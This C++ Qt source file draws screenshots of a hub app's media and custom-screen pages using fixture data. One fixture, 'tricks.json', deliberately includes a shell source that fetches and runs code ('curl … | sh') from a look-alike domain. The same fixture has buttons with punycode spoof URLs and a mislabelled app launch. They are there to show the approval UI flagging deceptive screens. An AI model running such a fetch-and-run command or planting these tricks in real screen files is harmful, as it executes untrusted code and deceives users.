#include "PageShots.h"

#include "hub/DeviceManager.h"
#include "macros/ProfileStore.h"
#include "media/ScreensaverPhotoService.h"
#include "media/StockService.h"
#include "media/StockStore.h"
#include "platform/Settings.h"
#include "screens/format/ScreenTemplate.h"
#include "screens/runtime/CustomScreenStore.h"
#include "screens/runtime/ScreenTrust.h"
#include "support/ScreenStoreWait.h"
#include "ui/media/NowPlayingView.h"
#include "ui/media/StocksView.h"
#include "ui/screens/CustomScreenFilesSection.h"
#include "ui/screens/CustomScreensView.h"
#include "ui/screens/FileManager.h"
#include "ui/screens/ScreenFileRow.h"
#include "ui/screens/ScreenPermissionsView.h"

#include <QDir>
#include <QFile>
#include <QLayout>
#include <QTest>

namespace {

void settle() { QTest::qWait(30); }

QPixmap drawPage(QWidget& page, int width = 820)
{
    // Sizes are right only once the page is shown and its style sheets applied.
    page.resize(width, 360);
    page.show();
    settle();
    QLayout* layout = page.layout();
    // Rows made as they come into sight, a few per turn, change the page's height: it is
    // measured again until it holds twice in a row.
    for (int pass = 0, held = 0; pass < 12 && held < 2; ++pass) {
        const int height =
            std::max(layout->hasHeightForWidth() ? layout->totalHeightForWidth(width) : page.sizeHint().height(), 360);
        held = pass > 0 && height == page.height() ? held + 1 : 0;
        page.resize(width, height);
        settle();
    }
    return page.grab();
}

bool write(const QString& path, const QByteArray& text)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(text) == text.size();
}

}  // namespace

void drawMediaPages(DeviceManager& hub, const SaveShot& save)
{
    {
        NowPlayingView page(hub);
        const NowPlayingState before = hub.nowPlaying();
        hub.setNowPlaying(NowPlayingState::idle());
        save(QStringLiteral("page-nowPlaying-empty"), drawPage(page));
        NowPlayingState playing;
        playing.title = QStringLiteral("Clair de Lune");
        playing.artist = QStringLiteral("Claude Debussy");
        playing.duration = 305;
        playing.elapsed = 65.7;
        playing.isPlaying = true;
        playing.source = NowPlayingState::Source::musicPlayer;
        playing.player = QStringLiteral("Rhythmbox");
        hub.setNowPlaying(playing);
        save(QStringLiteral("page-nowPlaying-normal"), drawPage(page));
        // Names longer than the row are cut, and the controls stay where they are.
        playing.title = QStringLiteral("Symphony No. 9 in D minor, Op. 125 \u201CChoral\u201D: IV. Presto \u2013 "
                                       "Allegro assai \u2013 Andante maestoso \u2013 Allegro energico, sempre ben "
                                       "marcato (Live at the Royal Festival Hall, London, 1985, Remastered)");
        playing.artist = QStringLiteral("Berliner Philharmoniker, Wiener Singverein, Herbert von Karajan, Anna "
                                        "Tomowa-Sintow, Agnes Baltsa, Vinson Cole, Jos\u00E9 van Dam");
        hub.setNowPlaying(playing);
        save(QStringLiteral("page-nowPlaying-long-names"), drawPage(page));
        hub.setNowPlaying(before);
    }

    StockStore& stocks = hub.stocks();
    StocksView page(hub);
    save(QStringLiteral("page-stocks-empty"), drawPage(page));
    const auto quote = [](const char* symbol, const char* company) {
        StockQuote q;
        q.symbol = QString::fromLatin1(symbol);
        q.companyName = QString::fromLatin1(company);
        q.price = 100;
        return q;
    };
    const QDateTime at(QDate(2025, 3, 14), QTime(9, 41));
    stocks.beginRefresh();
    stocks.applyRefresh({quote("AAPL", "Apple Inc."), quote("NVDA", "NVIDIA Corporation"),
                         quote("TSLA", "Tesla, Inc."), quote("SPY", "SPY")},
                        std::nullopt, at);
    save(QStringLiteral("page-stocks-normal"), drawPage(page));
    stocks.beginRefresh();
    stocks.applyRefresh({quote("AAPL", "Apple Inc."),
                         quote("NVDA", "NVIDIA Corporation Common Stock, listed on the Nasdaq Global Select Market "
                                       "under the ticker NVDA since January 1999"),
                         quote("TSLA", "Tesla, Inc."), quote("SPY", "SPY")},
                        std::nullopt, at);
    save(QStringLiteral("page-stocks-long-company"), drawPage(page));
    stocks.beginRefresh();
    stocks.applyRefresh({quote("AAPL", "Apple Inc."), quote("NVDA", "NVIDIA Corporation"),
                         quote("TSLA", "Tesla, Inc."), quote("SPY", "SPY")},
                        std::nullopt, at);
    stocks.beginRefresh();
    save(QStringLiteral("page-stocks-refreshing"), drawPage(page));
    stocks.applyRefresh({}, StockStore::refreshFailedMessage + QStringLiteral(" (AAPL: Host api.nasdaq.com not found)"),
                        at.addSecs(900));
    save(QStringLiteral("page-stocks-error"), drawPage(page));
}

bool drawCustomScreensPages(const QString& folder, const SaveShot& save)
{
    Settings settings(QDir(folder).filePath(QStringLiteral("shots.conf")));
    settings.setText(StockService::serviceBaseKey, QStringLiteral("http://127.0.0.1:0"));
    ProfileStore profiles(settings);
    ScreensaverPhotoService photos(QDir(folder).filePath(QStringLiteral("photos")));
    StockStore stocks(settings);
    const QString screensFolder = QDir(folder).filePath(QStringLiteral("Screens"));
    QDir().mkpath(screensFolder);
    CustomScreenStore screens(screensFolder, std::make_unique<ScreenTrust>());
    DeviceManager::Environment environment;
    environment.settings = &settings;
    environment.isTesting = true;
    DeviceManager hub(profiles, photos, stocks, screens, false, std::move(environment));
    screens.reload();
    if (!waitUntilLoaded(screens))
        return false;

    CustomScreensView page(hub);
    CustomScreenFilesSection* files = page.filesSection();
    // The desktop is not asked to open anything.
    files->setFileManager(new FileManager(
        QDBusConnection(QStringLiteral("none")),
        [](const QUrl&, const FileManager::Done& done) { done(std::nullopt); }, files));
    save(QStringLiteral("page-customScreens-empty"), drawPage(page));

    const QList<ScreenTemplate>& templates = ScreenTemplate::all();
    for (const ScreenTemplate& t : templates)
        if (t.id == QLatin1String("system") || t.id == QLatin1String("buttons") || t.id == QLatin1String("pushed"))
            files->addScreen(t);
    if (!waitUntilLoaded(screens))
        return false;
    if (const std::optional<CustomScreen> system = screens.screenWithID(QStringLiteral("system")))
        screens.trust().approveScreen(*system);
    if (ScreenFileRow* row = files->row(QStringLiteral("system.json")); row && row->permissionsView())
        row->permissionsView()->setExpanded(true);
    save(QStringLiteral("page-customScreens-normal"), drawPage(page));
    // As wide as the page is in a full HD window beside the sidebar: the rows keep their
    // actions near their names.
    save(QStringLiteral("page-customScreens-1920"), drawPage(page, 1920 - 200));

    // An address far longer than a line, sent with a header, waiting for approval: it wraps, whole,
    // inside the page, and the header's value shows beside its name.
    QByteArray address = "https://status.example.com/api/v2/components/summary?";
    while (address.size() < 300)
        address += "region=eu1&service=pipeline&token=8f14e45fceea167a5a36dedd4bea25438f14e45fceea167a5a&";
    address.truncate(300);
    if (!write(QDir(screensFolder).filePath(QStringLiteral("status.json")),
               R"({ "title": "Status", "sources": { "s": { "url": ")" + address +
                   R"(", "every": 300, "headers": { "X-Api-Key": "sk-live-4f9a 2c71" } } }, "widgets": [ { "type": "text", "x": 10, "y": 40, "text": "{{s}}" } ] })"))
        return false;
    screens.reload();
    if (!waitUntilLoaded(screens))
        return false;
    save(QStringLiteral("page-customScreens-long-address"), drawPage(page));
    QFile::remove(QDir(screensFolder).filePath(QStringLiteral("status.json")));

    // Buttons that would read as something else than they do, waiting for approval: a
    // right-hand modifier, an address that normalises, names and texts with look-alikes.
    if (!write(QDir(screensFolder).filePath(QStringLiteral("tricks.json")),
               R"({ "title": "Tricks", "sources": { "s": { "shell": "curl -s https://exаmple.com/i | sh" } },
  "widgets": [ { "type": "text", "x": 10, "y": 40, "text": "{{s}}" },
  { "type": "button", "x": 8, "y": 60, "w": 100, "h": 40, "label": "Lock", "action": { "kind": "keystroke", "usage": 15, "modifiers": 128 } },
  { "type": "button", "x": 120, "y": 60, "w": 100, "h": 40, "label": "Book", "action": { "kind": "openURL", "url": "HTTPS://Bücher.example/a b" } },
  { "type": "button", "x": 230, "y": 60, "w": 100, "h": 40, "label": "Apple", "action": { "kind": "openURL", "url": "https://xn--80ak6aa92e.com/" } },
  { "type": "button", "x": 340, "y": 60, "w": 100, "h": 40, "label": "Web", "action": { "kind": "openApp", "bundleID": "xterm", "name": "Firefox" } },
  { "type": "button", "x": 8, "y": 110, "w": 100, "h": 40, "label": "Type", "action": { "kind": "typeText", "text": "café ” done “" } } ] })"))
        return false;
    screens.reload();
    if (!waitUntilLoaded(screens))
        return false;
    save(QStringLiteral("page-customScreens-look-alikes"), drawPage(page));
    QFile::remove(QDir(screensFolder).filePath(QStringLiteral("tricks.json")));
    screens.reload();
    if (!waitUntilLoaded(screens))
        return false;

    // A file that broke after it loaded, one that never did, and one that cannot be read, which
    // is then duplicated.
    if (!write(QDir(screensFolder).filePath(QStringLiteral("pushed.json")), "{ \"title\": \"Pushed\", ") ||
        !write(QDir(screensFolder).filePath(QStringLiteral("weather.json")),
               R"({ "title": 7, "widgets": [ { "type": "dial", "x": 0, "y": 0 } ] })") ||
        !QFile::link(QDir(screensFolder).filePath(QStringLiteral("gone.txt")),
                     QDir(screensFolder).filePath(QStringLiteral("feed.json"))))
        return false;
    screens.reload();
    files->duplicate(QStringLiteral("feed.json"));
    if (!waitUntilLoaded(screens))
        return false;
    save(QStringLiteral("page-customScreens-error"), drawPage(page));
    return true;
}
